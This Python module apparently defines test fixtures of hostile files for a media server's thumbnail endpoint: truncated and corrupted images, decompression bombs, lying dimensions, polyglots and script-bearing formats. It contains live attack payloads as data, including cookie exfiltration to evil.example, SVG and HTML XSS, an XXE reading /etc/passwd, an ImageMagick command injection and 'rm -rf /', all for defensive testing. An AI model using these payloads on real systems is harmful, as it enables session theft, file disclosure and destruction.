"""Files made to hurt whoever looks at them: cut off, blown up, in disguise. Each is made here, none is kept."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

from tests.media_files import animation, picture, png, png_chunk, written

PICTURE, UNREADABLE, TOO_LARGE = 200, 400, 413
"""What a request for a thumbnail has to be answered with."""
ANY = (PICTURE, UNREADABLE, TOO_LARGE)


class Hostile(NamedTuple):
    """A file, what it says it is, and what may become of its thumbnail."""

    name: str
    content: bytes
    content_type: str
    thumbnail: tuple[int, ...]


SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body onload='alert(1)'>" + SCRIPT + b"</body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
    b"<foreignObject>" + HTML + b"</foreignObject><use xlink:href='data:image/svg+xml,%3Csvg/%3E#x'/></svg>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>'
)


def noise(format: str, **options: object) -> bytes:
    """Return a picture that is hard to compress, so that its data fill the file."""
    grey = random.Random(4711).randbytes(64 * 48 * 3)
    return written(Image.frombytes("RGB", (64, 48), grey), format, **options)


def cut_off() -> Iterator[Hostile]:
    for format in ("PNG", "JPEG", "GIF", "WEBP", "AVIF"):
        whole = noise(format)
        for share in (2, 10, 25, 50, 75, 85):
            content = whole[: max(1, len(whole) * share // 100)]
            yield Hostile(f"{format} cut off at {share} %", content, f"image/{format.lower()}", (UNREADABLE,))


def beginnings() -> Iterator[Hostile]:
    for name, magic in {
        "nothing": b"",
        "a zero": b"\0",
        "zeros": bytes(10_000),
        "the beginning of a PNG": b"\x89PNG\r\n\x1a\n",
        "the beginning of a JPEG": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        "the beginning of a GIF": b"GIF89a",
        "the beginning of a WebP": b"RIFF\xff\xff\xff\xffWEBPVP8X",
        "the beginning of an AVIF": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1",
        "an end of a JPEG": b"\xff\xd8\xff\xd9",
    }.items():
        yield Hostile(name, magic, "image/png", (UNREADABLE,))


def lying_pngs() -> Iterator[Hostile]:
    row = zlib.compress(bytes(4))
    for width, height, thumbnail in [
        (2**31 - 1, 2**31 - 1, TOO_LARGE),
        (65_535, 65_535, TOO_LARGE),
        (2**31 - 1, 1, TOO_LARGE),
        (1, 2**31 - 1, TOO_LARGE),
        (100_000_001, 1, TOO_LARGE),
        (9_000, 9_000, UNREADABLE),
        (0, 0, UNREADABLE),
        (0, 5, UNREADABLE),
    ]:
        yield Hostile(f"PNG of {width}x{height}", png(width, height, row), "image/png", (thumbnail,))
    bomb = zlib.compress(bytes(150_000_000), 9)
    good = zlib.compress(bytes(4 * 3))
    yield Hostile("PNG with a bomb of data", png(40, 40, bomb), "image/png", (PICTURE, UNREADABLE))
    yield Hostile("PNG without data", png(40, 40, b""), "image/png", (UNREADABLE,))
    yield Hostile("PNG that is not compressed", png(40, 40, b"no zlib here"), "image/png", (UNREADABLE,))
    for kind, data in {
        b"zTXt": b"Comment\0\0" + bomb,
        b"iTXt": b"Comment\0\1\0\0\0" + bomb,
        b"iCCP": b"icc\0\0" + bomb,
        b"acTL": struct.pack(">II", 2**31 - 1, 0),
        b"tRNS": b"x",
        b"eXIf": b"MM\0*\xff\xff\xff\xff",
    }.items():
        content = png(1, 1, good, png_chunk(kind, data))
        yield Hostile(f"PNG with a hostile {kind.decode()}", content, "image/png", (PICTURE, UNREADABLE))
    wrong = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0), 1)
    yield Hostile("PNG with a wrong checksum", wrong, "image/png", (UNREADABLE,))
    yield Hostile("PNG of three bits", png(9, 9, row, depth=3), "image/png", (UNREADABLE,))
    yield Hostile("PNG of colour 9", png(9, 9, row, colour=9), "image/png", (UNREADABLE,))
    yield Hostile("PNG without its palette", png(9, 9, row, colour=3), "image/png", (UNREADABLE,))


def lying_jpegs() -> Iterator[Hostile]:
    whole = noise("JPEG")
    frame = whole.index(b"\xff\xc0")
    size = struct.pack(">HH", 65_500, 65_500)
    yield Hostile(
        "JPEG of 65500x65500", whole[: frame + 5] + size + whole[frame + 9 :], "image/jpeg", (TOO_LARGE,)
    )
    none = struct.pack(">HH", 0, 0)
    yield Hostile("JPEG of 0x0", whole[: frame + 5] + none + whole[frame + 9 :], "image/jpeg", (UNREADABLE,))
    for name, exif in {
        "of letters": b"Exif\0\0" + b"A" * 5_000,
        "that goes in circles": b"Exif\0\0MM\0*\0\0\0\x08\0\1\x87\x69\0\4\0\0\0\1\0\0\0\x08\0\0\0\x08",
        "with an orientation of 99": b"Exif\0\0MM\0*\0\0\0\x08\0\1\1\x12\0\3\0\0\0\1\0\x63\0\0\0\0\0\0",
        "with endless entries": b"Exif\0\0II*\0\x08\0\0\0\xff\xff"
        + b"\x12\1\3\0\xff\xff\xff\xff\0\0\0\0" * 400,
        "that points out of the file": b"Exif\0\0II*\0\xf0\xff\xff\xff",
        "that is cut off": b"Exif\0\0II",
    }.items():
        marker = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
        content = picture((300, 200), "JPEG")
        yield Hostile(f"EXIF {name}", content[:2] + marker + content[2:], "image/jpeg", (PICTURE,))
    comments = b"".join(b"\xff\xfe\xff\xff" + b"c" * 65_533 for _ in range(100))
    yield Hostile("JPEG of comments", whole[:2] + comments + whole[2:], "image/jpeg", (PICTURE,))
    scan = whole.index(b"\xff\xda")
    yield Hostile("JPEG without tables", whole[:2] + whole[frame:scan] + whole[scan:], "image/jpeg", ANY)
    yield Hostile("JPEG without a frame", whole[:frame] + whole[scan:], "image/jpeg", (UNREADABLE,))
    restarts = whole[: scan + 14] + b"\xff\xd0\xff\xd1" * 20_000 + b"\xff\xd9"
    yield Hostile("JPEG of restarts", restarts, "image/jpeg", (PICTURE, UNREADABLE))


def lying_others() -> Iterator[Hostile]:
    gif = noise("GIF")
    huge = struct.pack("<HH", 65_535, 65_535)
    yield Hostile("GIF of 65535x65535", gif[:6] + huge + gif[10:], "image/gif", (TOO_LARGE,))
    frame = gif.index(b"\x2c", 13 + 768)
    outside = gif[: frame + 1] + struct.pack("<HHHH", 60_000, 60_000, 64, 48) + gif[frame + 9 :]
    yield Hostile("GIF with a frame far outside", outside, "image/gif", ANY)
    code = gif[: frame + 10] + b"\xff" + gif[frame + 11 :]
    yield Hostile("GIF with codes of 255 bits", code, "image/gif", ANY)
    one = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"
    many = b"GIF89a" + struct.pack("<HHBBB", 3_000, 3_000, 0x80, 0, 0) + bytes(6) + one * 20_000 + b"\x3b"
    yield Hostile("GIF of 20000 frames", many, "image/gif", (PICTURE,))
    yield Hostile("GIF without a frame", gif[:frame] + b"\x3b", "image/gif", (UNREADABLE,))
    webp = noise("WEBP")
    yield Hostile("WebP with a wrong length", b"RIFF\xff\xff\xff\x7f" + webp[8:], "image/webp", ANY)
    extended = animation((400, 300), "WEBP", 3)
    canvas = extended.index(b"VP8X") + 12
    yield Hostile(
        "WebP of 16777216 pixels' width",
        extended[:canvas] + b"\xff" * 6 + extended[canvas + 6 :],
        "image/webp",
        (UNREADABLE, TOO_LARGE),
    )
    frames = extended.index(b"ANMF")
    yield Hostile(
        "WebP of frames over and over", extended[:frames] + extended[frames:] * 500, "image/webp", ANY
    )
    avif = noise("AVIF")
    place = avif.index(b"ispe") + 8
    for width, height in [(65_535, 65_535), (2**32 - 1, 2**32 - 1), (0, 0)]:
        content = avif[:place] + struct.pack(">II", width, height) + avif[place + 8 :]
        yield Hostile(f"AVIF of {width}x{height}", content, "image/avif", (UNREADABLE, TOO_LARGE))
    boxes = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00\x00\x00\x08free" * 100_000
    yield Hostile("AVIF of empty boxes", boxes, "image/avif", (UNREADABLE,))


def with_scripts() -> Iterator[Hostile]:
    texts = {
        "HTML": (HTML, "text/html"),
        "HTML in UTF-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
        "HTML in UTF-16": (HTML.decode().encode("utf-16"), "text/html"),
        "XHTML": (
            b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
            "application/xhtml+xml",
        ),
        "SVG with a script": (SVG, "image/svg+xml"),
        "SVG, compressed": (gzip.compress(SVG), "image/svg+xml"),
        "SVG of a billion laughs": (LAUGHS, "image/svg+xml"),
        "SVG that reads files": (
            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
            "image/svg+xml",
        ),
        "XSLT": (b'<?xml version="1.0"?><?xml-stylesheet href="#" type="text/xsl"?><x/>', "text/xml"),
        "JavaScript": (b"self.onmessage = () => fetch('/_matrix/client/v3/sync')", "text/javascript"),
        "WebAssembly": (b"\0asm\1\0\0\0", "application/wasm"),
        "PDF with a script": (
            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
            "application/pdf",
        ),
        "MHTML": (b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + HTML, "multipart/related"),
        "pages one after the other": (HTML, "multipart/x-mixed-replace; boundary=x"),
        "a web manifest": (b'{"start_url":"/"}', "application/manifest+json"),
        "a cache manifest": (b"CACHE MANIFEST\n/", "text/cache-manifest"),
        "a program": (b"MZ" + bytes(200), "application/x-msdownload"),
        "a shell script": (b"#!/bin/sh\nrm -rf /\n", "application/x-sh"),
        "PostScript": (
            b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run",
            "application/postscript",
        ),
        "ImageMagick's language": (b"push graphic-context\nfill 'url(https://x/\"|id\")'", "image/x-mvg"),
    }
    for name, (content, content_type) in texts.items():
        yield Hostile(name, content, content_type, (UNREADABLE,))
        if content_type.startswith(("text/html", "image/svg+xml", "application/xhtml")):
            yield Hostile(f"{name}, said to be a PNG", content, "image/png", (UNREADABLE,))


def two_in_one() -> Iterator[Hostile]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("index.html", HTML)
        made.writestr("zeros", bytes(10_000_000))
    jpeg, good_png = noise("JPEG"), noise("PNG")
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    yield Hostile("JPEG and ZIP", jpeg + archive.getvalue(), "image/jpeg", (PICTURE,))
    yield Hostile("a ZIP that is a bomb", archive.getvalue(), "application/zip", (UNREADABLE,))
    yield Hostile("JPEG with a page in its comment", jpeg[:2] + comment + jpeg[2:], "text/html", (PICTURE,))
    yield Hostile("PNG and a page", good_png + HTML, "text/html", (PICTURE,))
    yield Hostile(
        "PNG with a page in its text",
        png(1, 1, zlib.compress(bytes(4)), png_chunk(b"tEXt", b"x\0" + HTML)),
        "text/html",
        (PICTURE,),
    )
    yield Hostile(
        "GIF and JavaScript", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "image/gif", (UNREADABLE,)
    )
    yield Hostile("GIF with a page behind it", noise("GIF") + HTML, "text/html", (PICTURE,))
    yield Hostile("WebP said to be SVG", noise("WEBP"), "image/svg+xml", (PICTURE,))
    yield Hostile("PDF and JPEG", b"%PDF-1.4\n" + jpeg, "application/pdf", (UNREADABLE,))


def rare_formats() -> Iterator[Hostile]:
    image = Image.new("RGB", (64, 48))
    for format in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "EPS", "PDF"):
        yield Hostile(f"{format}, said to be a PNG", written(image, format), "image/png", (UNREADABLE,))
    yield Hostile("PPM of 65535x65535", b"P6 65535 65535 255\n", "image/png", (UNREADABLE,))
    yield Hostile(
        "XBM",
        b"#define a_width 9\n#define a_height 9\nstatic char a_bits[] = {0};",
        "image/png",
        (UNREADABLE,),
    )


def changed_by_chance() -> Iterator[Hostile]:
    chance = random.Random(20)
    for format in ("PNG", "JPEG", "GIF", "WEBP", "AVIF"):
        for number in range(4):
            content = bytearray(
                animation((90, 60), format, 3) if number % 2 and format != "JPEG" else noise(format)
            )
            for _ in range(1 + 6 * number):
                content[chance.randrange(len(content))] = chance.randrange(256)
            yield Hostile(
                f"{format} changed by chance, {number}", bytes(content), f"image/{format.lower()}", ANY
            )


GROUPS = (
    cut_off,
    beginnings,
    lying_pngs,
    lying_jpegs,
    lying_others,
    with_scripts,
    two_in_one,
    rare_formats,
    changed_by_chance,
)
